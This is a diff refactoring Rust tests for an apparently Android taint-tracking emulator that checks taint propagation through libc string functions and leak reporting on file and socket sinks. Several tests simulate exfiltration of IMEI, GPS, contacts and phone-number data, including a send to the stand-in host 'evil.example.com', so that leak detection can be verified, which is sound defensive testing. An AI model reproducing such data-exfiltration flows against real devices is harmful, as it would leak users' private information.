@@ -5,78 +5,27 @@
 //! `memcpy`/`strcpy`/`sprintf` (§V-D, Listing 3) and leak reporting on
 //! `write*`/`send*` (Fig. 7/8).
 
-use ndroid_arm::block::BlockCache;
-use ndroid_arm::icache::DecodeCache;
-use ndroid_arm::{Cpu, Memory};
-use ndroid_dvm::{Dvm, Program, Taint};
+use ndroid_dvm::{Program, Taint};
 use ndroid_emu::layout;
-use ndroid_emu::runtime::{Analysis, NativeCtx};
-use ndroid_emu::{EmuError, Kernel, ShadowState, TraceLog};
+use ndroid_emu::runtime::{HostTable, NativeCtx};
+use ndroid_emu::testutil::{TrackOnly, World};
+use ndroid_emu::EmuError;
 use ndroid_libc::{string_fns, syscalls};
 
-/// Enables native taint tracking without any instruction tracing.
-struct TrackOnly;
-
-impl Analysis for TrackOnly {
-    fn tracks_native(&self) -> bool {
-        true
-    }
+/// A native-tracking world with no host table: each test calls the
+/// models directly.
+fn world() -> World<TrackOnly> {
+    World::new(Program::new(), HostTable::new(), TrackOnly)
 }
 
-type HostFn = fn(&mut NativeCtx<'_>) -> Result<u32, EmuError>;
-
-struct W {
-    cpu: Cpu,
-    mem: Memory,
-    dvm: Dvm,
-    shadow: ShadowState,
-    kernel: Kernel,
-    trace: TraceLog,
-    budget: u64,
-    icache: DecodeCache,
-    blocks: BlockCache,
-}
-
-impl W {
-    fn new() -> W {
-        let mut cpu = Cpu::new();
-        cpu.regs[13] = layout::NATIVE_STACK_TOP;
-        W {
-            cpu,
-            mem: Memory::new(),
-            dvm: Dvm::new(Program::new()),
-            shadow: ShadowState::new(),
-            kernel: Kernel::new(),
-            trace: TraceLog::new(),
-            budget: 1_000_000,
-            icache: DecodeCache::new(),
-            blocks: BlockCache::new(),
-        }
-    }
-
-    /// Calls a modeled host function with register arguments (R0–R3),
-    /// returning R0. Register shadow taints persist across calls so a
-    /// test can pre-taint an argument register.
-    fn call(&mut self, f: HostFn, args: &[u32]) -> u32 {
-        assert!(args.len() <= 4, "register args only");
-        for (i, a) in args.iter().enumerate() {
-            self.cpu.regs[i] = *a;
-        }
-        let mut analysis = TrackOnly;
-        let mut ctx = NativeCtx {
-            cpu: &mut self.cpu,
-            mem: &mut self.mem,
-            dvm: &mut self.dvm,
-            shadow: &mut self.shadow,
-            kernel: &mut self.kernel,
-            trace: &mut self.trace,
-            analysis: &mut analysis,
-            budget: &mut self.budget,
-            icache: &mut self.icache,
-            blocks: &mut self.blocks,
-        };
-        f(&mut ctx).expect("host fn")
-    }
+/// Calls host model `f` with register arguments: R0. Register shadow
+/// taints persist across calls, so a test can pre-taint an argument.
+fn call(
+    w: &mut World<TrackOnly>,
+    f: fn(&mut NativeCtx<'_>) -> Result<u32, EmuError>,
+    args: &[u32],
+) -> u32 {
+    w.call_host(f, args).expect("host fn")
 }
 
 const BUF_A: u32 = 0x2000_0000;
@@ -87,11 +36,11 @@ const BUF_C: u32 = 0x2000_2000;
 
 #[test]
 fn memcpy_taint_is_byte_granular() {
-    let mut w = W::new();
+    let mut w = world();
     w.mem.write_bytes(BUF_A, b"0123456789abcdef");
     // Only bytes [5, 9) of the source carry taint.
     w.shadow.mem.set_range(BUF_A + 5, 4, Taint::IMEI);
-    w.call(string_fns::memcpy, &[BUF_B, BUF_A, 16]);
+    call(&mut w, string_fns::memcpy, &[BUF_B, BUF_A, 16]);
     assert_eq!(w.mem.read_bytes(BUF_B, 16), b"0123456789abcdef");
     for i in 0..16u32 {
         let expect = if (5..9).contains(&i) {
@@ -105,10 +54,10 @@ fn memcpy_taint_is_byte_granular() {
 
 #[test]
 fn memcpy_overwrites_stale_destination_taint() {
-    let mut w = W::new();
+    let mut w = world();
     w.mem.write_bytes(BUF_A, &[0u8; 16]);
     w.shadow.mem.set_range(BUF_B, 16, Taint::SMS);
-    w.call(string_fns::memcpy, &[BUF_B, BUF_A, 16]);
+    call(&mut w, string_fns::memcpy, &[BUF_B, BUF_A, 16]);
     // Listing 3's per-byte transfer replaces, not unions: clean source
     // bytes scrub the old destination taint.
     assert_eq!(w.shadow.mem.range_taint(BUF_B, 16), Taint::CLEAR);
@@ -116,10 +65,10 @@ fn memcpy_overwrites_stale_destination_taint() {
 
 #[test]
 fn memmove_overlap_keeps_byte_taint_aligned() {
-    let mut w = W::new();
+    let mut w = world();
     w.mem.write_bytes(BUF_A, b"XYZW....");
     w.shadow.mem.set(BUF_A, Taint::IMEI); // only 'X'
-    w.call(string_fns::memmove, &[BUF_A + 2, BUF_A, 4]);
+    call(&mut w, string_fns::memmove, &[BUF_A + 2, BUF_A, 4]);
     assert_eq!(w.mem.read_bytes(BUF_A, 8), b"XYXYZW..");
     assert_eq!(w.shadow.mem.get(BUF_A + 2), Taint::IMEI, "'X' moved to +2");
     assert_eq!(w.shadow.mem.get(BUF_A + 3), Taint::CLEAR);
@@ -128,14 +77,14 @@ fn memmove_overlap_keeps_byte_taint_aligned() {
 
 #[test]
 fn memset_sets_fill_value_taint() {
-    let mut w = W::new();
+    let mut w = world();
     w.shadow.mem.set_range(BUF_B, 8, Taint::SMS);
     // Clean fill byte scrubs the range…
-    w.call(string_fns::memset, &[BUF_B, 0, 8]);
+    call(&mut w, string_fns::memset, &[BUF_B, 0, 8]);
     assert_eq!(w.shadow.mem.range_taint(BUF_B, 8), Taint::CLEAR);
     // …while a tainted fill value (register shadow on `c`) taints it.
     w.shadow.regs[1] = Taint::IMEI;
-    w.call(string_fns::memset, &[BUF_B, b'A' as u32, 8]);
+    call(&mut w, string_fns::memset, &[BUF_B, b'A' as u32, 8]);
     w.shadow.regs[1] = Taint::CLEAR;
     assert_eq!(w.mem.read_bytes(BUF_B, 8), b"AAAAAAAA");
     assert_eq!(w.shadow.mem.range_taint(BUF_B, 8), Taint::IMEI);
@@ -143,13 +92,13 @@ fn memset_sets_fill_value_taint() {
 
 #[test]
 fn strcpy_copies_per_byte_taint_and_clears_terminator() {
-    let mut w = W::new();
+    let mut w = world();
     w.mem.write_cstr(BUF_A, b"AB12");
     // Only the digits are tainted; the NUL terminator is clean.
     w.shadow.mem.set_range(BUF_A + 2, 2, Taint::CONTACTS);
     // Stale destination taint beyond the string must be replaced.
     w.shadow.mem.set_range(BUF_B, 5, Taint::SMS);
-    let r = w.call(string_fns::strcpy, &[BUF_B, BUF_A]);
+    let r = call(&mut w, string_fns::strcpy, &[BUF_B, BUF_A]);
     assert_eq!(r, BUF_B, "strcpy returns dest");
     assert_eq!(w.mem.read_cstr(BUF_B), b"AB12");
     assert_eq!(w.shadow.mem.range_taint(BUF_B, 2), Taint::CLEAR, "'AB'");
@@ -160,11 +109,11 @@ fn strcpy_copies_per_byte_taint_and_clears_terminator() {
 
 #[test]
 fn strncpy_pads_and_clears_tail_taint() {
-    let mut w = W::new();
+    let mut w = world();
     w.mem.write_cstr(BUF_A, b"ab");
     w.shadow.mem.set_range(BUF_A, 2, Taint::IMEI);
     w.shadow.mem.set_range(BUF_B, 8, Taint::SMS);
-    w.call(string_fns::strncpy, &[BUF_B, BUF_A, 8]);
+    call(&mut w, string_fns::strncpy, &[BUF_B, BUF_A, 8]);
     assert_eq!(w.mem.read_bytes(BUF_B, 8), b"ab\0\0\0\0\0\0");
     assert_eq!(w.shadow.mem.range_taint(BUF_B, 2), Taint::IMEI);
     assert_eq!(w.shadow.mem.range_taint(BUF_B + 2, 6), Taint::CLEAR, "pad");
@@ -172,14 +121,18 @@ fn strncpy_pads_and_clears_tail_taint() {
 
 #[test]
 fn sprintf_taints_only_the_tainted_expansions() {
-    let mut w = W::new();
+    let mut w = world();
     // sprintf(dst, "id=%s&n=%d", imei_str, count) — the IMEI string is
     // memory-tainted, the integer carries register taint.
     w.mem.write_cstr(BUF_A, b"id=%s&n=%d");
     w.mem.write_cstr(BUF_B, b"35693");
     w.shadow.mem.set_range(BUF_B, 5, Taint::IMEI);
     w.shadow.regs[3] = Taint::SMS;
-    w.call(ndroid_libc::stdio::sprintf, &[BUF_C, BUF_A, BUF_B, 42]);
+    call(
+        &mut w,
+        ndroid_libc::stdio::sprintf,
+        &[BUF_C, BUF_A, BUF_B, 42],
+    );
     w.shadow.regs[3] = Taint::CLEAR;
     assert_eq!(w.mem.read_cstr(BUF_C), b"id=35693&n=42");
     // "id=" literal: clean.
@@ -200,12 +153,12 @@ fn sprintf_taints_only_the_tainted_expansions() {
 
 #[test]
 fn write_of_tainted_bytes_to_file_is_a_leak() {
-    let mut w = W::new();
+    let mut w = world();
     w.mem.write_cstr(BUF_A, b"/data/out.bin");
-    let fd = w.call(syscalls::open, &[BUF_A, 0o102]); // O_RDWR|O_CREAT
+    let fd = call(&mut w, syscalls::open, &[BUF_A, 0o102]); // O_RDWR|O_CREAT
     w.mem.write_bytes(BUF_B, b"imei:35693");
     w.shadow.mem.set_range(BUF_B + 5, 5, Taint::IMEI);
-    let n = w.call(syscalls::write, &[fd, BUF_B, 10]);
+    let n = call(&mut w, syscalls::write, &[fd, BUF_B, 10]);
     assert_eq!(n, 10);
     let leaks: Vec<_> = w.kernel.leaks().collect();
     assert_eq!(leaks.len(), 1, "write* is a starred sink");
@@ -218,24 +171,24 @@ fn write_of_tainted_bytes_to_file_is_a_leak() {
 
 #[test]
 fn write_of_clean_bytes_is_an_event_but_not_a_leak() {
-    let mut w = W::new();
+    let mut w = world();
     w.mem.write_cstr(BUF_A, b"/data/log.txt");
-    let fd = w.call(syscalls::open, &[BUF_A, 0o102]);
+    let fd = call(&mut w, syscalls::open, &[BUF_A, 0o102]);
     w.mem.write_bytes(BUF_B, b"boring");
-    w.call(syscalls::write, &[fd, BUF_B, 6]);
+    call(&mut w, syscalls::write, &[fd, BUF_B, 6]);
     assert_eq!(w.kernel.events.len(), 1, "the sink call is observed");
     assert_eq!(w.kernel.leaks().count(), 0, "clean data is no leak");
 }
 
 #[test]
 fn send_of_tainted_bytes_reports_connected_peer() {
-    let mut w = W::new();
-    let fd = w.call(syscalls::socket, &[]);
+    let mut w = world();
+    let fd = call(&mut w, syscalls::socket, &[]);
     w.mem.write_cstr(BUF_A, b"evil.example.com");
-    w.call(syscalls::connect, &[fd, BUF_A]);
+    call(&mut w, syscalls::connect, &[fd, BUF_A]);
     w.mem.write_bytes(BUF_B, b"gps=22.33,114.18");
     w.shadow.mem.set_range(BUF_B + 4, 12, Taint::LOCATION_GPS);
-    let n = w.call(syscalls::send, &[fd, BUF_B, 16, 0]);
+    let n = call(&mut w, syscalls::send, &[fd, BUF_B, 16, 0]);
     assert_eq!(n, 16);
     let leaks: Vec<_> = w.kernel.leaks().collect();
     assert_eq!(leaks.len(), 1, "send* is a starred sink");
@@ -249,13 +202,13 @@ fn send_of_tainted_bytes_reports_connected_peer() {
 
 #[test]
 fn write_on_a_socket_reports_as_send_sink() {
-    let mut w = W::new();
-    let fd = w.call(syscalls::socket, &[]);
+    let mut w = world();
+    let fd = call(&mut w, syscalls::socket, &[]);
     w.mem.write_cstr(BUF_A, b"sync.3g.qq.com");
-    w.call(syscalls::connect, &[fd, BUF_A]);
+    call(&mut w, syscalls::connect, &[fd, BUF_A]);
     w.mem.write_bytes(BUF_B, b"sid=ab");
     w.shadow.mem.set_range(BUF_B + 4, 2, Taint::CONTACTS);
-    w.call(syscalls::write, &[fd, BUF_B, 6]);
+    call(&mut w, syscalls::write, &[fd, BUF_B, 6]);
     let leaks: Vec<_> = w.kernel.leaks().collect();
     assert_eq!(leaks.len(), 1);
     assert_eq!(leaks[0].sink, "send", "write on a socket is the send sink");
@@ -264,8 +217,8 @@ fn write_on_a_socket_reports_as_send_sink() {
 
 #[test]
 fn sendto_carries_destination_in_the_call() {
-    let mut w = W::new();
-    let fd = w.call(syscalls::socket, &[]);
+    let mut w = world();
+    let fd = call(&mut w, syscalls::socket, &[]);
     w.mem.write_cstr(BUF_A, b"softphone.comwave.net");
     w.mem.write_bytes(BUF_B, b"REGISTER sip:4804001849");
     w.shadow.mem.set_range(BUF_B + 13, 10, Taint::PHONE_NUMBER);
@@ -274,7 +227,7 @@ fn sendto_carries_destination_in_the_call() {
     w.cpu.regs[13] = sp;
     w.mem.write_u32(sp, BUF_A);
     w.mem.write_u32(sp + 4, 0);
-    let n = w.call(syscalls::sendto, &[fd, BUF_B, 23, 0]);
+    let n = call(&mut w, syscalls::sendto, &[fd, BUF_B, 23, 0]);
     assert_eq!(n, 23);
     let leaks: Vec<_> = w.kernel.leaks().collect();
     assert_eq!(leaks.len(), 1, "sendto* is a starred sink");
@@ -285,16 +238,16 @@ fn sendto_carries_destination_in_the_call() {
 
 #[test]
 fn read_is_a_clean_source_that_scrubs_stale_taint() {
-    let mut w = W::new();
+    let mut w = world();
     w.mem.write_cstr(BUF_A, b"/data/in.bin");
-    let fd = w.call(syscalls::open, &[BUF_A, 0o102]);
+    let fd = call(&mut w, syscalls::open, &[BUF_A, 0o102]);
     w.mem.write_bytes(BUF_B, b"payload!");
-    w.call(syscalls::write, &[fd, BUF_B, 8]);
-    w.call(syscalls::close, &[fd]);
+    call(&mut w, syscalls::write, &[fd, BUF_B, 8]);
+    call(&mut w, syscalls::close, &[fd]);
     // Re-open and read into a buffer carrying stale taint.
-    let fd = w.call(syscalls::open, &[BUF_A, 0]);
+    let fd = call(&mut w, syscalls::open, &[BUF_A, 0]);
     w.shadow.mem.set_range(BUF_C, 8, Taint::SMS);
-    let n = w.call(syscalls::read, &[fd, BUF_C, 8]);
+    let n = call(&mut w, syscalls::read, &[fd, BUF_C, 8]);
     assert_eq!(n, 8);
     assert_eq!(w.mem.read_bytes(BUF_C, 8), b"payload!");
     assert_eq!(
